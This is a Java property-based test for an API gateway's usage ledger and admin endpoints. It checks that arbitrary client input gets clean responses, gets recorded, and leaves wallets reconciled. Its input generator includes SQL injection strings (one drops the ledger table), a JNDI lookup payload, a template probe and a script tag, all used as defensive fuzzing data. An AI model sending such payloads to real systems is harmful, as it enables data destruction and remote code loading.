package dev.caravan.ledger;

import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;

import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import dev.caravan.support.GatewayTestSupport;
import dev.caravan.support.OpenAiFixtures;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.spring.JqwikSpringSupport;
import org.awaitility.Awaitility;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Whatever a client puts in a field that the gateway records (the model, its request id, a message, a user's
 * name and email, a key's name, a credit's reason), the answer is a success or an OpenAI-shaped 4xx, every
 * authenticated call has its ledger row, and the wallets still reconcile.
 */
@JqwikSpringSupport
class ClientInputPropertyTest extends GatewayTestSupport {

    /** Escapes every non-ASCII character, so that an unpaired surrogate really reaches the gateway as one. */
    private static final ObjectMapper ESCAPING = JsonMapper.builder().enable(JsonGenerator.Feature.ESCAPE_NON_ASCII).build();
    private static final String ONE_MEGABYTE = "\u05d0\u0301".repeat(1 << 19);

    private final AtomicInteger tries = new AtomicInteger();
    private Account account;

    /** Spring injects the test instance before each try, after jqwik's property hooks: prepared on first use. */
    private void prepare() {
        if (account != null) {
            return;
        }
        account = newAccount(new BigDecimal("100"));
        STUB.stubFor(post(urlPathMatching("/a/v1/chat/completions")).willReturn(aResponse().withStatus(200)
                .withHeader("Content-Type", "application/json").withBody(OpenAiFixtures.completion("model-a", "hello"))));
    }

    @Property(tries = 40)
    void anyChatFieldIsAnsweredClearlyAndRecorded(@ForAll("clientText") String model, @ForAll("clientText") String requestId,
            @ForAll("clientText") String content) throws Exception {
        prepare();
        String body = ESCAPING.writeValueAsString(Map.of("model", model, "max_tokens", 5,
                "messages", List.of(Map.of("role", "user", "content", content))));
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(baseUrl() + "/v1/chat/completions"))
                .header("Content-Type", "application/json").header("Authorization", "Bearer " + account.key())
                .POST(HttpRequest.BodyPublishers.ofString(body));
        try {
            // unique per try, so that the ledger row found by it is this call's
            request.header("x-request-id", requestId + "." + tries.incrementAndGet());
        } catch (IllegalArgumentException notAHeaderValue) {
            // the HTTP client cannot send it at all; the call goes without one
        }

        HttpResponse<String> response = send(request.build());

        assertAnsweredClearly(response);
        if (response.statusCode() != 413) {
            String shownId = response.headers().firstValue("x-request-id").orElseThrow();
            Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> jdbc.queryForObject(
                    "select count(*) from usage_ledger where user_id = ? and (request_id = ? or client_request_id = ?)",
                    Integer.class, account.userId(), shownId, shownId) == 1);
        }
        assertReconciled(account);
    }

    @Property(tries = 25)
    void anyAccountFieldIsStoredAsSentOrRefusedClearly(@ForAll("clientText") String name, @ForAll("clientText") String email,
            @ForAll("clientText") String keyName, @ForAll("clientText") String reason) throws Exception {
        HttpResponse<String> user = admin("POST", "/admin/users", ESCAPING.writeValueAsString(Map.of("name", name, "email", email)));
        assertAnsweredClearly(user);
        if (user.statusCode() != 201) {
            return;
        }
        JsonNode created = json(user.body());
        assertThat(created.get("name").asText()).isEqualTo(name.trim());
        String userId = created.get("id").asText();
        assertAnsweredClearly(admin("POST", "/admin/users/" + userId + "/keys", ESCAPING.writeValueAsString(Map.of("name", keyName))));
        HttpResponse<String> credit = admin("POST", "/admin/users/" + userId + "/credits",
                ESCAPING.writeValueAsString(Map.of("amount", 1, "kind", "topup", "reason", reason)));
        assertAnsweredClearly(credit);
        JsonNode stored = json(admin("GET", "/admin/users/" + userId, null).body());
        assertThat(stored.get("name").asText()).isEqualTo(name.trim());
        assertThat(reconciliation.run().differences()).noneMatch(d -> d.userId().toString().equals(userId));
    }

    @Provide
    Arbitrary<String> clientText() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.just("ab")),
                Tuple.of(6, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(4, Arbitraries.strings().withChars("\u0000\u0001\t\n\u001b\u007f\u0085\ud800\udfffab")
                        .ofMinLength(1).ofMaxLength(8)),
                Tuple.of(3, Arbitraries.strings().withCharRange('\u0590', '\u06ff').withCharRange('\u0300', '\u036f')
                        .ofMinLength(1).ofMaxLength(30)),
                Tuple.of(3, Arbitraries.of("' or 1=1 --", "ab'); drop table usage_ledger; --", "\"}]}", "\\u0000",
                        "%00", "${jndi:ldap://example.invalid/a}", "{{env:PATH}}", "<script>", "null")),
                Tuple.of(1, Arbitraries.just(ONE_MEGABYTE)));
    }

    private static void assertAnsweredClearly(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isBetween(200, 499);
        if (response.statusCode() >= 400) {
            JsonNode error = error(response);
            assertThat(error.get("type").asText()).isNotBlank();
        }
        assertThat(response.body()).doesNotContain("Exception").doesNotContain("\tat ").doesNotContain("SQL");
    }

    private void assertReconciled(Account wallet) {
        Awaitility.await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(reconciliation.run().differences())
                .noneMatch(d -> d.userId().equals(wallet.userId())));
    }

    private HttpResponse<String> admin(String method, String path, String body) {
        return send(HttpRequest.newBuilder(URI.create(baseUrl() + path)).header("Authorization", "Bearer " + ADMIN_KEY)
                .header("Content-Type", "application/json")
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body))
                .build());
    }
}
